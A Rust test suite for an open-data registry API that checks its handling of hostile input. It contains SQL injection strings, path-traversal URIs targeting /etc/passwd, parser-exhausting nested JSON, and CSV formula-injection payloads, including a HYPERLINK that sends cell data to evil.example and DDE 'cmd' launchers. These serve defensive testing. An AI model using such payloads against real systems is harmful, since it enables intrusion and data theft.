//! Hostile input over HTTP: injection strings, undecodable bytes, strange numbers, overlong and
//! repeated parameters and path tricks in every parameter, filter and path segment. Each answer
//! is a 4xx problem naming what is at fault, or a 200 whose data is exactly what the (strange but
//! valid) search asked for; afterwards every export is byte-for-byte what it was. Hostile import
//! files are refused by line and leave the release as it was; formula cells are stored as given
//! and neutralised in every CSV that offers it.

use std::collections::{BTreeMap, BTreeSet};
use std::rc::Rc;

use actix_web::test::{self as atest, TestRequest};
use futures_util::future::LocalBoxFuture;
use opengov_api::models::registries::{self, import, search};
use opengov_api::server::build_app;
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use serde_json::Value;

use crate::both_backends;
use crate::common::{Response, TestApp};

type Call = Box<dyn Fn(TestRequest) -> LocalBoxFuture<'static, Response>>;

/// The application initialised once and called many times (initialising it per request would
/// dominate the run time of these suites).
pub struct Client {
    call: Call,
}

impl Client {
    pub async fn new(app: &TestApp) -> Client {
        let service = Rc::new(atest::init_service(build_app(app.state.clone())).await);
        Client {
            call: Box::new(move |req: TestRequest| {
                let service = service.clone();
                Box::pin(async move {
                    let res = atest::call_service(&*service, req.to_request()).await;
                    let status = res.status();
                    let headers = res.headers().clone();
                    let body = atest::read_body(res).await.to_vec();
                    Response {
                        status,
                        headers,
                        body,
                    }
                })
            }),
        }
    }

    pub async fn get(&self, uri: &str) -> Response {
        (self.call)(TestRequest::get().uri(uri)).await
    }

    pub async fn get_with(&self, uri: &str, headers: &[(&str, &str)]) -> Response {
        let mut req = TestRequest::get().uri(uri);
        for (name, value) in headers {
            req = req.insert_header((*name, *value));
        }
        (self.call)(req).await
    }
}

/// Never a 5xx; a 4xx is a problem+json whose `detail` says something. Returns the problem.
pub fn assert_client_safe(uri: &str, res: &Response) -> Option<Value> {
    let show = || String::from_utf8_lossy(&res.body[..res.body.len().min(400)]).into_owned();
    assert!(
        res.status.as_u16() < 500,
        "{uri} -> {}: {}",
        res.status,
        show()
    );
    if !res.status.is_client_error() {
        return None;
    }
    assert_eq!(
        res.header("content-type"),
        Some("application/problem+json"),
        "{uri} -> {}: {}",
        res.status,
        show()
    );
    let p: Value = serde_json::from_slice(&res.body)
        .unwrap_or_else(|e| panic!("{uri}: problem is not JSON ({e}): {}", show()));
    assert_eq!(p["status"], res.status.as_u16(), "{uri}: {p}");
    assert!(
        p["detail"].as_str().is_some_and(|d| !d.trim().is_empty()),
        "{uri}: problem without detail: {p}"
    );
    Some(p)
}

/// Percent-encodes every byte that is not a letter or digit.
pub fn enc(bytes: &[u8]) -> String {
    percent_encode(bytes, NON_ALPHANUMERIC).to_string()
}

/// Injection and quoting payloads, as raw bytes (some are not UTF-8 or hold a NUL).
fn payloads() -> Vec<Vec<u8>> {
    let mut list: Vec<Vec<u8>> = [
        "' OR 1=1--",
        "' OR '1'='1",
        "\"; DROP TABLE registries; --",
        "'); DROP TABLE items_territorial_units; --",
        "1; SELECT pg_sleep(5)",
        "%27",
        "%",
        "_",
        "a%b_c",
        "\\",
        "\\' OR 1=1 --",
        "’ ‘ “ ” ʼ",
        "*/ OR /*",
        ") OR (1=1",
        "$1",
        "?",
        "Хмельницька' --",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();
    list.push(b"a\0b".to_vec());
    list.push(b"\0".to_vec());
    list.push(b"\xFF\xFE".to_vec());
    list.push(b"caf\xC3".to_vec());
    list
}

/// Registry slugs, each with its fields `(name, type)`.
async fn registries_and_fields(c: &Client) -> Vec<(String, Vec<(String, String)>)> {
    let list = c.get("/api/v1/registries?limit=1000").await.json();
    let mut out = Vec::new();
    for r in list["items"].as_array().unwrap() {
        let slug = r["slug"].as_str().unwrap().to_owned();
        let fields = r["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["name"].as_str().unwrap().to_owned(),
                    f["type"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        out.push((slug, fields));
    }
    assert!(out.len() >= 5, "fixture registries are loaded");
    out
}

/// Every export a client could hold: each registry's items and releases, the plan's releases and
/// records, the plan collections as CSV, and the whole change feed.
async fn snapshot(c: &Client) -> BTreeMap<String, Vec<u8>> {
    let mut uris = vec![
        "/api/v1/registries?limit=1000".to_owned(),
        "/api/v1/plan/releases?limit=1000".to_owned(),
    ];
    for collection in [
        "plans",
        "commitments",
        "milestones",
        "institutions",
        "sources",
    ] {
        uris.push(format!("/api/v1/{collection}.csv"));
    }
    for (slug, _) in registries_and_fields(c).await {
        uris.push(format!("/api/v1/registries/{slug}/items.ndjson"));
        uris.push(format!("/api/v1/registries/{slug}/releases?limit=1000"));
    }
    let plan = c.get("/api/v1/plan/releases?limit=1").await.json();
    let latest = plan["items"][0]["number"].as_i64().unwrap();
    uris.push(format!("/api/v1/plan/releases/{latest}/records"));
    let mut out = BTreeMap::new();
    for uri in uris {
        let res = c.get(&uri).await;
        assert_eq!(res.status, 200, "{uri}");
        out.insert(uri, res.body);
    }
    let mut since = String::new();
    for page in 0.. {
        let uri = format!("/api/v1/changes?limit=1000{since}");
        let res = c.get(&uri).await;
        assert_eq!(res.status, 200, "{uri}");
        let body = res.json();
        out.insert(format!("changes page {page}"), res.body);
        if body["more"] != true {
            break;
        }
        since = format!("&since={}", body["next_cursor"].as_str().unwrap());
    }
    out
}

fn assert_unchanged(before: &BTreeMap<String, Vec<u8>>, after: &BTreeMap<String, Vec<u8>>) {
    assert_eq!(
        before.keys().collect::<Vec<_>>(),
        after.keys().collect::<Vec<_>>()
    );
    for (uri, bytes) in before {
        assert!(after[uri] == *bytes, "{uri} changed");
    }
}

/// The items of a registry as the NDJSON export has them: id -> properties.
async fn items_of(c: &Client, slug: &str) -> BTreeMap<String, Value> {
    let res = c
        .get(&format!("/api/v1/registries/{slug}/items.ndjson"))
        .await;
    assert_eq!(res.status, 200);
    res.text()
        .lines()
        .map(|line| {
            let item: Value = serde_json::from_str(line).unwrap();
            (
                item["id"].as_str().unwrap().to_owned(),
                item["properties"].clone(),
            )
        })
        .collect()
}

/// Which items a text filter must select, computed here from the export.
fn expected_text_matches(
    items: &BTreeMap<String, Value>,
    field: &str,
    op: &str,
    value: &str,
) -> BTreeSet<String> {
    items
        .iter()
        .filter(|(_, props)| {
            let Some(stored) = props[field].as_str() else {
                return false;
            };
            match op {
                "eq" => stored == value,
                "ne" => stored != value,
                "contains" => stored.contains(value),
                "startswith" => stored.starts_with(value),
                "in" => value.split(',').any(|v| v == stored),
                _ => unreachable!("{op}"),
            }
        })
        .map(|(id, _)| id.clone())
        .collect()
}

/// Which items `q` must select: every normalised word occurs in the item's normalised text.
fn expected_search_matches(
    items: &BTreeMap<String, Value>,
    fields: &[(String, String)],
    q: &str,
) -> BTreeSet<String> {
    let tokens = search::tokens(q);
    items
        .iter()
        .filter(|(_, props)| {
            let text: Vec<&str> = fields
                .iter()
                .filter(|(_, kind)| kind == "text")
                .filter_map(|(name, _)| props[name].as_str())
                .collect();
            let haystack = search::normalise(&text.join(" "));
            tokens.iter().all(|t| haystack.contains(t.as_str()))
        })
        .map(|(id, _)| id.clone())
        .collect()
}

fn ids_of(page: &Value) -> BTreeSet<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap().to_owned())
        .collect()
}

/// A request that must be refused: a 4xx problem naming `parameter` (when given).
async fn refused(c: &Client, uri: &str, parameter: Option<&str>) -> Value {
    let res = c.get(uri).await;
    let p = assert_client_safe(uri, &res)
        .unwrap_or_else(|| panic!("{uri} was accepted ({})", res.status));
    if let Some(name) = parameter {
        assert_eq!(p["parameter"], name, "{uri}: {p}");
    }
    p
}

both_backends!(injection_strings_in_every_parameter_change_nothing, |app| {
    let c = Client::new(&app).await;
    let before = snapshot(&c).await;
    let registries = registries_and_fields(&c).await;
    let plan_params: &[(&str, &[&str])] = &[
        (
            "plans",
            &[
                "member", "release", "expand", "limit", "cursor", "lang", "format",
            ],
        ),
        (
            "commitments",
            &[
                "release",
                "plan",
                "ogp_value",
                "institution",
                "role",
                "expand",
                "limit",
                "cursor",
                "lang",
                "format",
            ],
        ),
        (
            "milestones",
            &[
                "release",
                "commitment",
                "plan",
                "institution",
                "status",
                "due_from",
                "due_to",
                "expand",
                "limit",
                "cursor",
            ],
        ),
        (
            "institutions",
            &["release", "kind", "role", "plan", "commitment", "expand"],
        ),
        ("sources", &["release", "limit", "cursor"]),
    ];
    let control = [
        "release",
        "limit",
        "cursor",
        "count",
        "lang",
        "format",
        "bom",
        "delimiter",
        "header",
        "download",
        "neutralise_formulas",
        "sort",
        "fields",
        "bbox",
    ];
    let mut items_by_registry = BTreeMap::new();
    for (slug, _) in &registries {
        items_by_registry.insert(slug.clone(), items_of(&c, slug).await);
    }
    for payload in payloads() {
        let e = enc(&payload);
        let decoded = String::from_utf8(payload.clone()).ok();
        // Values no handler can read faithfully are refused before any handler runs.
        let undecodable = decoded.as_ref().is_none_or(|d| d.contains('\0'));
        for (collection, params) in plan_params {
            for param in *params {
                let uri = format!("/api/v1/{collection}?{param}={e}");
                let res = c.get(&uri).await;
                if let Some(p) = assert_client_safe(&uri, &res) {
                    assert_eq!(p["parameter"], *param, "{uri}: {p}");
                } else {
                    // Only id filters may accept an unknown id: then nothing matches.
                    assert!(!undecodable, "{uri} accepted");
                    assert_eq!(res.json()["items"], serde_json::json!([]), "{uri}");
                }
            }
            let uri = format!("/api/v1/{collection}/{e}");
            let res = c.get(&uri).await;
            assert_eq!(res.status, 404, "{uri}");
            assert_client_safe(&uri, &res);
            for param in ["release", "expand", "lang"] {
                let uri = format!("/api/v1/{collection}/{e}?{param}={e}");
                assert_client_safe(&uri, &c.get(&uri).await).expect("refused");
            }
        }
        for uri in [
            format!("/api/v1/registries/{e}"),
            format!("/api/v1/registries/{e}/items"),
            format!("/api/v1/registries/{e}/items.csv"),
            format!("/api/v1/registries/{e}/items/{e}"),
            format!("/api/v1/registries/territorial-units/items/{e}"),
            format!("/api/v1/registries/{e}/releases"),
            format!("/api/v1/registries/{e}/releases/1"),
            format!("/api/v1/registries/territorial-units/releases/{e}"),
            format!("/api/v1/registries/{e}/feed.atom"),
            format!("/api/v1/registries/{e}/items.csv-metadata.json"),
            format!("/api/v1/plan/releases/{e}"),
            format!("/api/v1/plan/releases/{e}/records"),
        ] {
            let res = c.get(&uri).await;
            assert!(
                res.status == 404 || res.status == 400,
                "{uri}: {}",
                res.status
            );
            assert_client_safe(&uri, &res);
        }
        for uri in [
            format!("/api/v1/registries?limit={e}"),
            format!("/api/v1/registries?cursor={e}"),
            format!("/api/v1/registries?lang={e}"),
            format!("/api/v1/registries/territorial-units?lang={e}"),
            format!("/api/v1/changes?since={e}"),
            format!("/api/v1/changes?dataset={e}"),
            format!("/api/v1/changes?limit={e}"),
            format!("/api/v1/plan/releases?limit={e}"),
            format!("/api/v1/plan/releases?cursor={e}"),
            format!("/api/v1/registries/territorial-units/releases?cursor={e}"),
            format!("/api/v1/feeds/plan.atom?limit={e}"),
            format!("/api/v1/feeds/releases.atom?lang={e}"),
            format!("/api/v1/registries/territorial-units/feed.atom?limit={e}"),
            format!("/api/v1/registries/territorial-units/items/UA68000000000099709?release={e}"),
            format!("/api/v1/catalog.jsonld?x={e}"),
            format!("/api/v1/catalog.ttl?{e}=1"),
        ] {
            refused(&c, &uri, None).await;
        }
        // The index takes no parameters: any is refused, like everywhere else.
        refused(&c, &format!("/api/v1?lang={e}"), None).await;
        for (slug, fields) in &registries {
            let items = &items_by_registry[slug];
            let base = format!("/api/v1/registries/{slug}/items");
            for name in control {
                let uri = format!("{base}?{name}={e}");
                refused(&c, &uri, Some(name)).await;
            }
            let uri = format!("{base}.csv?sort={e}");
            refused(&c, &uri, Some("sort")).await;
            let uri = format!("{base}?{e}=1");
            refused(&c, &uri, None).await;
            for (field, kind) in fields {
                let text_ops: &[&str] = &["eq", "ne", "in", "contains", "startswith"];
                let other_ops: &[&str] = &["eq", "ne", "in", "gte", "isnull"];
                let ops = if kind == "text" { text_ops } else { other_ops };
                for op in ops {
                    let uri = format!("{base}?{field}__{op}={e}&limit=1000&count=exact");
                    let res = c.get(&uri).await;
                    match (&decoded, assert_client_safe(&uri, &res)) {
                        (_, Some(p)) => {
                            let key = format!("{field}__{op}");
                            assert_eq!(p["parameter"], key, "{uri}: {p}");
                            let valid_text = kind == "text"
                                && !undecodable
                                && !(*op == "in"
                                    && payload.split(|b| *b == b',').any(<[u8]>::is_empty));
                            assert!(!valid_text, "{uri}: a text search was refused: {p}");
                        }
                        (Some(value), None) => {
                            assert_eq!(kind, "text", "{uri} accepted a non-text value");
                            let page = res.json();
                            assert_eq!(
                                ids_of(&page),
                                expected_text_matches(items, field, op, value),
                                "{uri}"
                            );
                        }
                        (None, None) => panic!("{uri}: undecodable value accepted"),
                    }
                }
            }
            let uri = format!("{base}?q={e}&limit=1000&count=exact");
            let res = c.get(&uri).await;
            if assert_client_safe(&uri, &res).is_none() {
                let q = decoded.as_deref().expect("decodable");
                assert_eq!(
                    ids_of(&res.json()),
                    expected_search_matches(items, fields, q),
                    "{uri}"
                );
            }
        }
    }
    assert_unchanged(&before, &snapshot(&c).await);
});

both_backends!(wildcards_quotes_and_backslashes_match_literally, |app| {
    // Names that hold the characters LIKE, SQL and JSON treat specially.
    let names = [
        "100% готово",
        "100 готово",
        "a_b",
        "axb",
        "back\\slash",
        "O'Brien",
        "O’Brien",
        "say \"hi\"",
        "%",
        "_",
    ];
    let mut csv =
        "katottg,category,name_uk,level1_oblast,level2_raion,level3_hromada,koatuu_legacy\n"
            .to_owned();
    for (i, name) in names.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        csv.push_str(&format!(
            "UA{i:017},C,\"{quoted}\",UA68000000000099709,,,\n"
        ));
    }
    import_units(&app, &csv);
    let c = Client::new(&app).await;
    let base = "/api/v1/registries/territorial-units/items";
    let names_of = |page: &Value| -> BTreeSet<String> {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["properties"]["name_uk"].as_str().unwrap().to_owned())
            .collect()
    };
    let set = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<BTreeSet<_>>();
    for (query, expected) in [
        ("name_uk__contains=%", set(&["100% готово", "%"])),
        ("name_uk__contains=_", set(&["a_b", "_"])),
        ("name_uk__startswith=%", set(&["%"])),
        ("name_uk__startswith=_", set(&["_"])),
        ("name_uk=%", set(&["%"])),
        ("name_uk=a_b", set(&["a_b"])),
        ("name_uk__contains=\\", set(&["back\\slash"])),
        ("name_uk__contains='", set(&["O'Brien"])),
        ("name_uk__contains=’", set(&["O’Brien"])),
        ("name_uk__contains=\"", set(&["say \"hi\""])),
        ("name_uk__in=%,_", set(&["%", "_"])),
        ("q=100%", set(&["100% готово"])),
        ("q=%", set(&["100% готово", "%"])),
        ("q=_", set(&["a_b", "_"])),
        ("q=a_b", set(&["a_b"])),
        ("q=\\", set(&["back\\slash"])),
        // Apostrophes are unified by the search, never by filters.
        ("q=o'brien", set(&["O'Brien", "O’Brien"])),
    ] {
        let (name, value) = query.split_once('=').unwrap();
        let uri = format!("{base}?{name}={}&limit=1000", enc(value.as_bytes()));
        let res = c.get(&uri).await;
        assert_eq!(res.status, 200, "{uri}: {}", res.text());
        assert_eq!(names_of(&res.json()), expected, "{query}");
    }
});

both_backends!(strange_numbers_are_refused_by_name, |app| {
    let c = Client::new(&app).await;
    let numbers = [
        "1e308",
        "1e400",
        "99999999999999999999",
        "-0",
        "-1",
        "0",
        "NaN",
        "nan",
        "Infinity",
        "-Infinity",
        "inf",
        "0x10",
        "1.5",
        "1,5",
        " 5",
        "５",
    ];
    for n in numbers {
        let n = enc(n.as_bytes());
        for (uri, parameter) in [
            (format!("/api/v1/commitments?limit={n}"), "limit"),
            (format!("/api/v1/commitments?release={n}"), "release"),
            (format!("/api/v1/changes?limit={n}"), "limit"),
            (format!("/api/v1/feeds/plan.atom?limit={n}"), "limit"),
            (
                format!("/api/v1/registries/housing-stock/items?limit={n}"),
                "limit",
            ),
            (
                format!("/api/v1/registries/housing-stock/items.csv?limit={n}"),
                "limit",
            ),
            (
                format!("/api/v1/registries/housing-stock/items?release={n}"),
                "release",
            ),
            (
                format!("/api/v1/registries/housing-stock/items?bbox=26,49,27,{n}"),
                "bbox",
            ),
        ] {
            refused(&c, &uri, Some(parameter)).await;
        }
        for (uri, parameter) in [
            (
                format!("/api/v1/registries/housing-stock/items?total_area_m2__gt={n}"),
                "total_area_m2__gt",
            ),
            (
                format!("/api/v1/registries/housing-stock/items?floors={n}"),
                "floors",
            ),
            (
                format!("/api/v1/registries/housing-stock/items?bbox={n},{n},{n},{n}"),
                "bbox",
            ),
        ] {
            // A few are ordinary numbers of these types; the rest are refused by name.
            let res = c.get(&uri).await;
            if let Some(p) = assert_client_safe(&uri, &res) {
                assert_eq!(p["parameter"], parameter, "{uri}: {p}");
            }
        }
    }
    for n in [
        "1e308",
        "1e400",
        "NaN",
        "Infinity",
        "inf",
        "99999999999999999999",
    ] {
        refused(
            &c,
            &format!("/api/v1/registries/housing-stock/items?floors={n}"),
            Some("floors"),
        )
        .await;
    }
    for n in ["1e308", "1e400", "NaN", "Infinity", "-inf", "0x10"] {
        refused(
            &c,
            &format!("/api/v1/registries/housing-stock/items?total_area_m2__lte={n}"),
            Some("total_area_m2__lte"),
        )
        .await;
        refused(&c, &format!("/api/v1/plan/releases/{n}"), None).await;
    }
    // Numbers at the edges of their types are valid and simply match nothing.
    for query in [
        "floors=-0",
        "floors__gt=9223372036854775807",
        "floors__lt=-9223372036854775808",
        "total_area_m2__gt=99999999999999999999999",
        "bbox=-180,-90,-180,-90",
    ] {
        let uri = format!("/api/v1/registries/housing-stock/items?{query}");
        let res = c.get(&uri).await;
        assert_eq!(res.status, 200, "{uri}: {}", res.text());
        assert_eq!(res.json()["items"], serde_json::json!([]), "{uri}");
    }
    let p = refused(
        &c,
        "/api/v1/registries/housing-stock/items?release=9223372036854775807",
        None,
    )
    .await;
    assert_eq!(p["status"], 404);
});

both_backends!(overlong_and_repeated_parameters, |app| {
    let c = Client::new(&app).await;
    // The longest URI the HTTP layer can represent is 64 KiB (a 100 KB request target never
    // reaches the application), so the values here are as long as a request can carry.
    let long = "x".repeat(60 * 1024);
    let long_list = vec!["x"; 30 * 1024].join(",");
    for uri in [
        format!("/api/v1/commitments?plan={long}"),
        format!("/api/v1/milestones?status={long}"),
        format!("/api/v1/commitments?cursor={long}"),
        format!("/api/v1/commitments?{long}=1"),
        format!("/api/v1/changes?since={long}"),
        format!("/api/v1/registries/territorial-units/items?name_uk={long}"),
        format!("/api/v1/registries/territorial-units/items?name_uk__contains={long}"),
        format!("/api/v1/registries/territorial-units/items?name_uk__in={long_list}"),
        format!("/api/v1/registries/territorial-units/items?q={long}"),
        format!("/api/v1/registries/territorial-units/items?sort={long_list}"),
        format!("/api/v1/registries/territorial-units/items?fields={long_list}"),
        format!("/api/v1/registries/territorial-units/items?cursor={long}"),
        format!("/api/v1/registries/territorial-units/items/{long}"),
        format!("/api/v1/registries/{long}/items"),
        format!("/api/v1/commitments/{long}"),
    ] {
        let res = c.get(&uri).await;
        let shown = &uri[..uri.len().min(90)];
        if assert_client_safe(shown, &res).is_none() {
            // Accepted only as a search for a value nobody has.
            assert_eq!(res.json()["items"], serde_json::json!([]), "{shown}");
        }
    }
    for (uri, parameter) in [
        ("/api/v1/commitments?limit=1&limit=2", "limit"),
        (
            "/api/v1/milestones?status=complete&status=complete",
            "status",
        ),
        ("/api/v1/changes?limit=5&limit=5", "limit"),
        (
            "/api/v1/registries/territorial-units/items?limit=1&limit=1",
            "limit",
        ),
        (
            "/api/v1/registries/territorial-units/items?sort=name_uk&sort=katottg",
            "sort",
        ),
        (
            "/api/v1/registries/territorial-units/items?category=O&category=P",
            "category",
        ),
        ("/api/v1/registries/territorial-units/items?q=a&q=b", "q"),
        (
            "/api/v1/registries/housing-stock/items?bbox=26,49,27,50&bbox=26,49,27,50",
            "bbox",
        ),
    ] {
        refused(&c, uri, Some(parameter)).await;
    }
});

both_backends!(path_tricks_are_problems, |app| {
    let c = Client::new(&app).await;
    for uri in [
        "/api/v1/registries/..%2F..%2Fetc%2Fpasswd",
        "/api/v1/registries/..%2fterritorial-units/items",
        "/api/v1/registries/%2E%2E/items",
        "/api/v1/registries/territorial-units%2Fitems",
        "/api/v1/registries/territorial-units%00/items",
        "/api/v1/registries/territorial-units/items/%00",
        "/api/v1/registries/territorial-units/items/..%2F..%2F..%2Fcommitments",
        "/api/v1/registries/territorial-units/items.csv%00.json",
        "/api/v1/commitments/%2E%2E%2F%2E%2E%2Fplans",
        "/api/v1/commitments/..",
        "/api/v1/plans/%C0%AE%C0%AE",
        "/api/v1/plans/%FF%FE",
        "/api/v1/plan/releases/1%2F..%2F2/records",
        "/api/v1/%2e%2e/api/v1/plans",
        "/api/v1/registries/territorial-units/items/%252e%252e",
        "/docs/..%2F..%2FCargo.toml",
        "/api/v1/registries/%5C..%5C/items",
    ] {
        let res = c.get(uri).await;
        assert_client_safe(uri, &res).unwrap_or_else(|| panic!("{uri} answered {}", res.status));
    }
});

both_backends!(
    formula_cells_are_stored_as_given_and_neutralised_in_csv,
    |app| {
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "=1+1",
            "\t=1+1",
            "\r=1+1",
        ];
        let mut csv =
            "katottg,category,name_uk,level1_oblast,level2_raion,level3_hromada,koatuu_legacy\n"
                .to_owned();
        for (i, f) in formulas.iter().enumerate() {
            let quoted = f.replace('"', "\"\"");
            csv.push_str(&format!(
                "UA{i:017},C,\"{quoted}\",UA68000000000099709,\"{quoted}\",,\n"
            ));
        }
        import_units(&app, &csv);
        let c = Client::new(&app).await;
        let base = "/api/v1/registries/territorial-units/items";
        // Stored (and served as JSON) exactly as given.
        let items = items_of(&c, "territorial-units").await;
        for (i, f) in formulas.iter().enumerate() {
            let props = &items[&format!("UA{i:017}")];
            assert_eq!(props["name_uk"], *f);
            assert_eq!(props["level2_raion"], *f);
        }
        let cells = |body: &[u8], delimiter: u8| -> Vec<Vec<String>> {
            let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
            csv::ReaderBuilder::new()
                .delimiter(delimiter)
                .from_reader(body)
                .records()
                .map(|r| r.unwrap().iter().map(str::to_owned).collect())
                .collect()
        };
        let neutralised: BTreeSet<String> = formulas.iter().map(|f| format!("'{f}")).collect();
        let mut csv_answers = 0;
        for (uri, headers, delimiter) in [
            (format!("{base}.csv"), vec![], b','),
            (format!("{base}.csv?limit=3"), vec![], b','),
            (
                format!("{base}.csv?delimiter=semicolon&bom=true"),
                vec![],
                b';',
            ),
            (
                format!("{base}.csv?delimiter=tab&header=labels&lang=uk"),
                vec![],
                b'\t',
            ),
            (
                format!("{base}.csv?neutralise_formulas=true&download=true"),
                vec![],
                b',',
            ),
            (format!("{base}?format=csv"), vec![], b','),
            (base.to_owned(), vec![("Accept", "text/csv")], b','),
            (
                format!("{base}.csv?fields=name_uk,level2_raion"),
                vec![],
                b',',
            ),
        ] {
            let res = c.get_with(&uri, &headers).await;
            assert_eq!(res.status, 200, "{uri}");
            assert!(res.header("content-type").unwrap().starts_with("text/csv"));
            for row in cells(&res.body, delimiter) {
                for cell in row {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{uri}: a formula cell reached the CSV: {cell:?}"
                    );
                    if neutralised.contains(&cell) {
                        csv_answers += 1;
                    }
                }
            }
        }
        assert!(
            csv_answers >= 7 * 2 * 7,
            "formula cells were checked ({csv_answers})"
        );
        // Whoever asks for the stored values in CSV gets them.
        let res = c
            .get(&format!("{base}.csv?neutralise_formulas=false"))
            .await;
        let raw: Vec<String> = cells(&res.body, b',')
            .into_iter()
            .filter_map(|row| row.get(2).cloned())
            .collect();
        for f in formulas {
            assert!(raw.iter().any(|cell| cell == f), "{f:?} kept when asked");
        }
        // The other CSV collections neutralise too (registries list: titles are texts).
        let res = c.get("/api/v1/registries.csv").await;
        assert_eq!(res.status, 200);
    }
);

both_backends!(hostile_import_files_are_refused_by_line, |app| {
    let c = Client::new(&app).await;
    let before = snapshot(&c).await;
    let header =
        "katottg,category,name_uk,level1_oblast,level2_raion,level3_hromada,koatuu_legacy\n";
    let good_row = "UA00000000000000001,C,Добре,UA68000000000099709,,,\n";
    let deep_json = format!(
        "{{\"type\":\"FeatureCollection\",\"features\":[{{\"type\":\"Feature\",\"properties\":{{\"segment_id\":\"X\",\"street\":{}1{}}},\"geometry\":null}}]}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let feature = |props: &str, geometry: &str| {
        format!(
            "{{\"type\":\"FeatureCollection\",\"features\":[{{\"type\":\"Feature\",\"properties\":{{\"segment_id\":\"RD-1\",\"street\":\"s\",\"surface\":\"asphalt\",\"condition\":\"good\",\"length_m\":1.5,\"inspected_on\":\"2024-01-01\"}},\"geometry\":{{\"type\":\"LineString\",\"coordinates\":[[27,49.4],[27.01,49.41]]}}}},{{\"type\":\"Feature\",\"properties\":{props},\"geometry\":{geometry}}}]}}"
        )
    };
    let line = r#"{"type":"LineString","coordinates":[[27,49.4],[27.01,49.41]]}"#;
    let deep_wkt = format!(
        "{}POINT(27 49){}",
        "GEOMETRYCOLLECTION(".repeat(100_000),
        ")".repeat(100_000)
    );
    // (registry, format, file, line the refusal must name)
    let cases: Vec<(&str, import::FileFormat, Vec<u8>, Option<u64>)> = vec![
        (
            "territorial-units",
            import::FileFormat::Csv,
            format!("{header}{good_row}UA00000000000000002,C,a\0b,UA68000000000099709,,,\n").into_bytes(),
            Some(3),
        ),
        (
            "territorial-units",
            import::FileFormat::Csv,
            [header.as_bytes(), good_row.as_bytes(), b"UA00000000000000002,C,caf\xC3,UA68000000000099709,,,\n"].concat(),
            Some(3),
        ),
        (
            "territorial-units",
            import::FileFormat::Csv,
            [b"katottg,cat\xFF\n".as_slice(), good_row.as_bytes()].concat(),
            Some(1),
        ),
        (
            "territorial-units",
            import::FileFormat::Csv,
            format!("katottg\0,category\n{good_row}").into_bytes(),
            Some(1),
        ),
        (
            "territorial-units",
            import::FileFormat::Csv,
            format!("{header}{good_row}\0UA00000000000000003,C,x,UA68000000000099709,,,\n").into_bytes(),
            Some(3),
        ),
        (
            "housing-stock",
            import::FileFormat::Csv,
            "id,address,floors,lon,lat\n1,a,5,27,49.4\n2,b,5,1e400,49.4\n".into(),
            Some(3),
        ),
        (
            "housing-stock",
            import::FileFormat::Csv,
            "id,address,floors,lon,lat\n1,a,5,27,49.4\n2,b,5,27,NaN\n".into(),
            Some(3),
        ),
        (
            "housing-stock",
            import::FileFormat::Csv,
            format!("id,address,floors,wkt\n1,a,5,POINT(27 49.4)\n2,b,5,{deep_wkt}\n").into_bytes(),
            Some(3),
        ),
        (
            "housing-stock",
            import::FileFormat::Csv,
            "id,address,floors,wkt\n1,a,5,POINT(27 49.4)\n2,b,5,POINT(1e400 49)\n".into(),
            Some(3),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            feature(
                r#"{"segment_id":"RD-2","street":"s"}"#,
                r#"{"type":"LineString","coordinates":[[1e400,49.4],[27.01,49.41]]}"#,
            )
            .into_bytes(),
            Some(2),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            feature(
                r#"{"segment_id":"RD-2","street":"s"}"#,
                r#"{"type":"LineString","coordinates":[[27],[27.01,49.41]]}"#,
            )
            .into_bytes(),
            Some(2),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            feature(r#"{"segment_id":"RD-2","street":"a\u0000b"}"#, line).into_bytes(),
            Some(2),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            feature(r#"{"segment_id":"RD-\u0000","street":"s"}"#, line).into_bytes(),
            Some(2),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            feature(r#"{"segment_id":"RD-2","length_m":1e400}"#, line).into_bytes(),
            Some(2),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            deep_json.clone().into_bytes(),
            Some(1),
        ),
        (
            "road-monitoring",
            import::FileFormat::GeoJson,
            b"{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{\"segment_id\":\"caf\xC3\"},\"geometry\":null}]}".to_vec(),
            Some(1),
        ),
    ];
    for (i, (slug, format, bytes, line)) in cases.into_iter().enumerate() {
        let mut conn = app.pool().get().unwrap();
        let registry = registries::find_schema(&mut conn, slug).unwrap().unwrap();
        let outcome = import::import(
            &mut conn,
            &registry,
            format,
            bytes.as_slice(),
            "hostile",
            import::Publish::Always,
        );
        match outcome {
            Err(import::ImportError::Refused { problems, total }) => {
                assert!(total >= 1 && !problems.is_empty(), "case {i}");
                assert_eq!(problems[0].line, line, "case {i}: {problems:?}");
                assert!(!problems[0].message.is_empty(), "case {i}");
            }
            other => panic!("case {i} ({slug}): not refused by line: {other:?}"),
        }
    }
    assert_unchanged(&before, &snapshot(&c).await);
});

/// Publishes `csv` as the next release of the territorial units (the library import, as the CLI
/// runs it).
fn import_units(app: &TestApp, csv: &str) {
    let mut conn = app.pool().get().unwrap();
    let registry = registries::find_schema(&mut conn, "territorial-units")
        .unwrap()
        .unwrap();
    import::import(
        &mut conn,
        &registry,
        import::FileFormat::Csv,
        csv.as_bytes(),
        "test",
        import::Publish::Always,
    )
    .unwrap();
}
